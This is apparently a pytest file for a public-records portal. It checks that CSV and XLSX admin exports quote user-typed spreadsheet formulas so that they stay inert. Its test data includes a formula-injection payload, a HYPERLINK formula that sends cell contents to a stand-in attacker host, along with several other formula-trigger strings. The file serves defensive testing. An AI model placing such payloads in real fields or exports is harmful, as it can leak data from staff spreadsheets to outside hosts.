"""Spreadsheet exports never hand staff a live formula that a citizen typed (CSV/formula injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.test_disclosure_factories import handler, make_request, private_media  # noqa: F401
from tests.test_interaction_helpers import add_mailbox, fresh_cache_and_private_media, make_letter, staff  # noqa: F401

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(response):
    return {cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row}


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(csv_response, xlsx_response):
    cells = csv_cells(csv_response)
    for typed in FORMULAS:
        assert typed not in cells, f"{typed!r} reached the CSV as a formula"
        assert "'" + typed in cells
    xlsx = xlsx_cells(xlsx_response)
    assert not [cell.value for cell in xlsx if cell.data_type == "f"]
    assert {FORMULAS[0], "'" + FORMULAS[0]} & {cell.value for cell in xlsx}


@pytest.mark.parametrize("typed", FORMULAS)
def test_request_queue_exports_quote_formulas(client, portal, typed):
    make_request(portal, name=typed, description=typed)
    client.force_login(handler(portal))
    queue = "/admin/disclosure/requests/"
    cells = csv_cells(client.get(queue + "export.csv"))
    assert typed not in cells and "'" + typed in cells
    sheet = xlsx_cells(client.get(queue + "export.xlsx"))
    assert not [cell.value for cell in sheet if cell.data_type == "f"]


def test_letter_queue_exports_quote_formulas(client, portal):
    mailbox = add_mailbox(portal)
    for typed in FORMULAS:
        make_letter(portal, mailbox, subject=typed)
    client.force_login(staff(portal, "handler"))
    queue = "/admin/interaction/letters/"
    assert_inert(client.get(queue + "export.csv"), client.get(queue + "export.xlsx"))


def test_numbers_stay_numbers():
    from home.exports import as_text

    assert as_text(-5) == -5 and as_text(3.5) == 3.5 and as_text("云州") == "云州"
